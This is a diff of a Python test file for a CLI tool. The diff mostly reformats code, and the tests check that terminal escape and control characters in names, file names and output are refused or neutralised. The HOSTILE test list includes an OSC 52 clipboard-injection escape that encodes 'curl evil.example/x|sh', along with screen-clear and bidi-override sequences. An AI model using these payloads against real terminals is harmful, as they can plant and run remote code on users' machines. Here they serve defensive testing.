@@ -11,12 +11,12 @@ import sys
 
 import pytest
 
+from facilitator.base.errors import FacilitatorError
+from facilitator.base.terminal_text import is_control, json_shown, shown
 from facilitator.cli import main
 from facilitator.domain.demo import build_demo_session
-from facilitator.base.errors import FacilitatorError
 from facilitator.domain.model import Session
 from facilitator.storage.store import SessionStore
-from facilitator.base.terminal_text import is_control, json_shown, shown
 
 HOSTILE = [
     "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07",  # OSC 52: put `curl evil.example/x|sh` on the clipboard
@@ -27,8 +27,24 @@ HOSTILE = [
     "a\rb\x7f\x00c\u2028d",
 ]
 HOSTILE_TEXT = "".join(HOSTILE) + "\nsecond line"
-SKIP_KEYS = {"id", "key", "date", "kind", "saved_at", "created_at", "schema", "version", "step", "checklist_version",
-             "status", "follows", "at", "due", "score", "agreed"}
+SKIP_KEYS = {
+    "id",
+    "key",
+    "date",
+    "kind",
+    "saved_at",
+    "created_at",
+    "schema",
+    "version",
+    "step",
+    "checklist_version",
+    "status",
+    "follows",
+    "at",
+    "due",
+    "score",
+    "agreed",
+}
 
 
 class Terminal(io.TextIOWrapper):
@@ -104,10 +120,15 @@ def hostile(tmp_path):
 def test_every_command_prints_no_raw_control_character(hostile, monkeypatch, tmp_path):
     data_dir, session = hostile
     commands = [
-        ["list"], ["list", "--json"], ["show", session.id],
-        ["export", session.id], ["export", session.id, "--document", "scorecard"],
+        ["list"],
+        ["list", "--json"],
+        ["show", session.id],
+        ["export", session.id],
+        ["export", session.id, "--document", "scorecard"],
         ["export", session.id, "--changes-since"],
-        ["history", session.id], ["history", session.id, "--json"], ["dump", session.id],
+        ["history", session.id],
+        ["history", session.id, "--json"],
+        ["dump", session.id],
         ["export", session.id, "-o", str(tmp_path / "out\x1b]0;t\x07.md")],
         ["new", "--alliance", "\x1b[2J", "--partner", "A", "--partner", "B"],
         ["show", "\x1b]52;c;eA==\x07"],
@@ -141,11 +162,22 @@ def test_a_table_row_stays_one_line_whatever_a_file_is_called(hostile, monkeypat
 
 @pytest.mark.parametrize("name", ["\x1b[2J", "Acme\x1b]0;x\x07", "Evil\u202eCorp", "Tab\there", "C1\x9b"])
 def test_names_with_control_characters_are_refused(name, monkeypatch, tmp_path):
-    code, out, err = _run(monkeypatch, "--data-dir", str(tmp_path / "data"), "new", "--alliance", name,
-                          "--partner", "A", "--partner", "B")
+    code, out, err = _run(
+        monkeypatch, "--data-dir", str(tmp_path / "data"), "new", "--alliance", name, "--partner", "A", "--partner", "B"
+    )
     assert code == 1 and "control characters" in err and not out
-    code, out, err = _run(monkeypatch, "--data-dir", str(tmp_path / "data"), "new", "--alliance", "Fine",
-                          "--partner", name, "--partner", "B")
+    code, out, err = _run(
+        monkeypatch,
+        "--data-dir",
+        str(tmp_path / "data"),
+        "new",
+        "--alliance",
+        "Fine",
+        "--partner",
+        name,
+        "--partner",
+        "B",
+    )
     assert code == 1 and "control characters" in err
 
 
@@ -159,6 +191,6 @@ def test_a_shared_file_with_an_escape_in_a_name_is_refused_not_shown(monkeypatch
 
 
 def test_json_shown_is_valid_json_for_every_control():
-    every = "".join(chr(c) for c in [*range(0x20), 0x7f, *range(0x80, 0xa0), 0x2028, 0x2029, 0x202e, 0x2066])
+    every = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029, 0x202E, 0x2066])
     text = json_shown(json.dumps({"v": every}, ensure_ascii=False))
     assert not _raw_controls(text) and json.loads(text) == {"v": every}
